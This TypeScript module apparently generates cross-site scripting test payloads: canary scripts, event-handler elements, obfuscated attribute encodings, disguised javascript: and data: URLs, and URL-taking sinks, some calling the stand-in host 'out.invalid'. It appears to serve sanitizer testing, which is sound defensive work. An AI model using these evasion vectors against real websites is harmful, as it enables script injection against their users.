/** Host that nothing but a payload asks for anything. */
export const outside = 'out.invalid'

/** Turns the payload's number into script that makes itself known by calling `hit`. */
export type Code = (id: number) => string

export const codes: readonly Code[] = [
  (id) => `hit(${id})`,
  (id) => `hit\`${id}\``,
  (id) => `window['h'+'it'](${id})`,
  (id) => `self.hit?.(${id})`,
  (id) => `setTimeout(()=>hit(${id}))`,
  (id) => `Function('hit(${id})')()`,
  (id) => `[${id}].map(hit)`,
  (id) => `new Image().src='//${outside}/${id}';hit(${id})`,
  (id) => `{let a=document.createElement('b');a.onclick=()=>hit(${id});a.click()}`,
  (id) => `throw hit(${id})`,
]

/** An element that may fire a handler; `{on}` is where the handler goes. */
export const firing: readonly { readonly html: string; readonly events: readonly string[] }[] = [
  { html: '<img src=x {on}>', events: ['error', 'load', 'loadstart'] },
  { html: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" {on}>', events: ['load', 'error'] },
  { html: '<svg {on}></svg>', events: ['load', 'click', 'focusin'] },
  { html: '<svg><image href=x {on}></svg>', events: ['error', 'load'] },
  { html: '<svg><animate attributeName=x dur=1ms {on}></svg>', events: ['begin', 'end', 'repeat'] },
  { html: '<svg><set attributeName=x to=y {on}></svg>', events: ['begin'] },
  { html: '<svg><a {on}><text>a</text></a></svg>', events: ['click'] },
  { html: '<math {on}><mi>x</mi></math>', events: ['click', 'pointerover'] },
  { html: '<body {on}>', events: ['load', 'pageshow', 'hashchange', 'message', 'unhandledrejection'] },
  { html: '<html {on}>', events: ['click'] },
  { html: '<iframe {on}></iframe>', events: ['load'] },
  { html: '<object data=x {on}></object>', events: ['error', 'load'] },
  { html: '<embed src=x {on}>', events: ['error', 'load'] },
  { html: '<video {on}><source src=x></video>', events: ['error', 'loadstart', 'play'] },
  { html: '<video src=x {on}></video>', events: ['error', 'emptied'] },
  { html: '<video><source src=x {on}></video>', events: ['error'] },
  { html: '<audio src=x autoplay {on}></audio>', events: ['error', 'loadstart'] },
  { html: '<input autofocus {on}>', events: ['focus', 'blur', 'input', 'change', 'select', 'invalid'] },
  { html: '<input type=image src=x {on}>', events: ['error'] },
  { html: '<textarea autofocus {on}></textarea>', events: ['focus', 'keydown'] },
  { html: '<select autofocus {on}><option>a</select>', events: ['focus', 'change'] },
  { html: '<button autofocus {on}>a</button>', events: ['focus', 'click'] },
  { html: '<button popovertarget=p>a</button><p popover id=p {on}>', events: ['beforetoggle', 'toggle'] },
  { html: '<form {on}><input type=submit></form>', events: ['submit', 'reset', 'formdata'] },
  { html: '<details open {on}><summary>a</summary></details>', events: ['toggle', 'click'] },
  { html: '<dialog open {on}>a</dialog>', events: ['close', 'cancel', 'click'] },
  { html: '<marquee {on}>a</marquee>', events: ['start', 'bounce', 'finish'] },
  { html: '<style {on}>a{}</style>', events: ['load', 'error'] },
  { html: '<link rel=stylesheet href=x {on}>', events: ['error', 'load'] },
  { html: '<script src=x {on}></script>', events: ['error', 'load'] },
  { html: '<track src=x {on}>', events: ['error', 'load'] },
  {
    html: '<a href=# {on}>a</a>',
    events: ['click', 'auxclick', 'dblclick', 'focus', 'mouseover', 'dragstart'],
  },
  { html: '<p tabindex=1 {on}>a</p>', events: ['focus', 'pointerdown', 'copy', 'cut', 'paste', 'wheel'] },
  { html: '<p contenteditable {on}>a</p>', events: ['input', 'beforeinput', 'keyup', 'drop'] },
  {
    html: '<p style="animation:a 1ms" {on}>a</p>',
    events: ['animationstart', 'animationend', 'transitionend'],
  },
  { html: '<x-y {on}>a</x-y>', events: ['click', 'mouseenter', 'contextmenu', 'gotpointercapture'] },
  { html: '<table {on}><tr><td>a</table>', events: ['click', 'scroll', 'selectstart'] },
  { html: '<td {on}>a</td>', events: ['mousemove'] },
  { html: '<frameset {on}></frameset>', events: ['load', 'focus'] },
  { html: '<slot {on}></slot>', events: ['slotchange', 'click'] },
  { html: '<picture><source srcset=x><img src=y {on}></picture>', events: ['error'] },
  { html: '<q {on}>a</q>', events: ['securitypolicyviolation', 'touchstart', 'visibilitychange'] },
  { html: '<summary {on}>a</summary>', events: ['click', 'keypress'] },
  { html: '<time {on}>a</time>', events: ['mouseup', 'mouseleave'] },
]

/** Ways to write an attribute. */
export const writings: readonly ((name: string, value: string) => string)[] = [
  (name, value) => `${name}="${value.replaceAll('"', '&quot;')}"`,
  (name, value) => `${name}='${value.replaceAll("'", '&#39;')}'`,
  (name, value) =>
    `${name}=${value.replaceAll(' ', '&#32;').replaceAll('>', '&gt;').replaceAll("'", '&#39;')}`,
  (name, value) => `${name.toUpperCase()} = "${value.replaceAll('"', '&#x22;')}"`,
  (name, value) => `\t${alternating(name)}\n=\n"${value.replaceAll('"', '&quot;')}"`,
  (name, value) => `/${name}/='a'/${name}="${value.replaceAll('"', '&quot;')}"`,
  (name, value) => `title=">" ${name}="${value.replaceAll('"', '&quot;')}"`,
  (name, value) => `"'${name}='x' ${name}="${asReferences(value, 'decimal')}"`,
  (name, value) => `${name}="${asReferences(value, 'hex')}"`,
  (name, value) => `${name}\f=\f'${asReferences(value, 'bare')}'`,
]

/** Every character as a reference; `bare` ones have no semicolon. */
export function asReferences(text: string, form: 'decimal' | 'hex' | 'bare'): string {
  return [...text]
    .map((character) => {
      const code = character.codePointAt(0) ?? 0
      if (form === 'hex') return `&#x${code.toString(16)};`
      return form === 'decimal' ? `&#${code};` : `&#${String(code).padStart(7, '0')}`
    })
    .join('')
}

export function alternating(text: string): string {
  return [...text].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('')
}

/** Addresses that run the code, or ask the outside for something. */
export const addresses: readonly ((code: string, id: number) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `${alternating('javascript')}:${code}`,
  (code) => ` \u0001javascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript\r:${code}`,
  (code) => `java&Tab;script&colon;${code}`,
  (code) => `&#1;&#x6a;avascript:${code}`,
  (code) => `&NewLine;javascript&#58;${code}`,
  (code) => `${asReferences('javascript:', 'bare')}${code}`,
  (code) => `javascript&#0000058${code}`,
  (code) => `javascript://${outside}/%0a${encodeURI(code)}`,
  (code) => `javascript:/*--></title></style></textarea></script><svg/onload='${code}'>*/${code}`,
  (code) => `\u00A0javascript:${code}`,
  (code) => `\u200Bjavascript:${code}`,
  (code) => `javascript\u200B:${code}`,
  (code) => `java\u00ADscript:${code}`,
  (code) => `j\u0000avascript:${code}`,
  (code) => `java%73cript:${code}`,
  (code) => `\\6aavascript:${code}`,
  (code) => `livescript:${code}`,
  (code) => `vbscript:${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `feed:javascript:${code}`,
  (code) => `blob:javascript:${code}`,
  (code) => `filesystem:javascript:${code}`,
  (code) => `http:javascript:${code}`,
  (code) => `data:text/html,<script>${encodeURIComponent(code)}</script>`,
  (code) => `data:text/html;base64,${btoa(`<script>parent.${code}</script>`)}`,
  (code) =>
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${encodeURIComponent(code)}"/>`,
  (code) => `DATA:application/xhtml+xml,<x onload="${encodeURIComponent(code)}"/>`,
  (code) => `data:text/javascript,${encodeURIComponent(code)}`,
  (code) => `data:,${encodeURIComponent(code)}`,
  (_, id) => `//${outside}/${id}`,
  (_, id) => `\\\\${outside}\\${id}`,
  (_, id) => `/\\${outside}/${id}`,
  (_, id) => `/\t/${outside}/${id}`,
  (_, id) => `https:${outside}/${id}`,
  (_, id) => `ftp://${outside}/${id}`,
  (_, id) => `file://${outside}/${id}`,
  (_, id) => `irc://${outside}/${id}`,
  (_, id) => `ws://${outside}/${id}`,
  (_, id) => `/asset/../../${outside}/${id}`,
  (_, id) => `\u2025//${outside}/${id}`,
]

/** An element that takes an address; `{at}` is where the attribute goes, named by `attribute`. */
export const taking: readonly { readonly html: string; readonly attribute: string }[] = [
  { html: '<a {at}>a</a>', attribute: 'href' },
  { html: '<a href=# {at}>a</a>', attribute: 'ping' },
  { html: '<area shape=default {at}>', attribute: 'href' },
  { html: '<svg><a {at}><text y=9>a</text></a></svg>', attribute: 'xlink:href' },
  {
    html: '<svg><a><animate attributeName=href {at}></animate><text>a</text></a></svg>',
    attribute: 'values',
  },
  { html: '<svg><a><set attributeName=href {at}></set><text>a</text></a></svg>', attribute: 'to' },
  { html: '<svg><use {at}></use></svg>', attribute: 'href' },
  { html: '<svg><image {at}></image></svg>', attribute: 'href' },
  { html: '<svg><script {at}></script></svg>', attribute: 'href' },
  { html: '<svg><filter><feImage {at}></feImage></filter></svg>', attribute: 'href' },
  { html: '<svg><rect {at}></rect></svg>', attribute: 'fill' },
  { html: '<math {at}><mi>a</mi></math>', attribute: 'href' },
  { html: '<math><maction actiontype=statusline {at}>a</maction></math>', attribute: 'xlink:href' },
  { html: '<img {at}>', attribute: 'src' },
  { html: '<img {at}>', attribute: 'srcset' },
  { html: '<img src=x {at}>', attribute: 'lowsrc' },
  { html: '<img src=x usemap=#m><map name=m><area {at}></map>', attribute: 'href' },
  { html: '<image {at}>', attribute: 'src' },
  { html: '<picture><source {at}><img></picture>', attribute: 'srcset' },
  { html: '<video {at}></video>', attribute: 'poster' },
  { html: '<video {at} autoplay></video>', attribute: 'src' },
  { html: '<audio><source {at}></audio>', attribute: 'src' },
  { html: '<track default {at}>', attribute: 'src' },
  { html: '<iframe {at}></iframe>', attribute: 'src' },
  { html: '<frameset><frame {at}></frameset>', attribute: 'src' },
  { html: '<object {at}></object>', attribute: 'data' },
  { html: '<object><param name=url {at}></object>', attribute: 'value' },
  { html: '<embed {at}>', attribute: 'src' },
  { html: '<applet {at}></applet>', attribute: 'code' },
  { html: '<script {at}></script>', attribute: 'src' },
  { html: '<link rel=stylesheet {at}>', attribute: 'href' },
  { html: '<link rel=import {at}>', attribute: 'href' },
  { html: '<link rel="preload" as=image {at}>', attribute: 'href' },
  { html: '<link rel=prefetch {at}>', attribute: 'href' },
  { html: '<link rel=icon {at}>', attribute: 'href' },
  { html: '<link rel=manifest {at}>', attribute: 'href' },
  { html: '<base {at}><a href=a>a</a><img src=b>', attribute: 'href' },
  { html: '<form {at}><button>a</button></form>', attribute: 'action' },
  { html: '<form><button {at}>a</button></form>', attribute: 'formaction' },
  { html: '<form><input type=image {at}></form>', attribute: 'formaction' },
  { html: '<input type=image {at}>', attribute: 'src' },
  { html: '<body {at}>', attribute: 'background' },
  { html: '<table {at}><tr><td>a</table>', attribute: 'background' },
  { html: '<blockquote {at}>a</blockquote>', attribute: 'cite' },
  { html: '<html {at}>', attribute: 'manifest' },
  { html: '<portal {at}></portal>', attribute: 'src' },
  { html: '<p {at}>a</p>', attribute: 'data-background-iframe' },
]
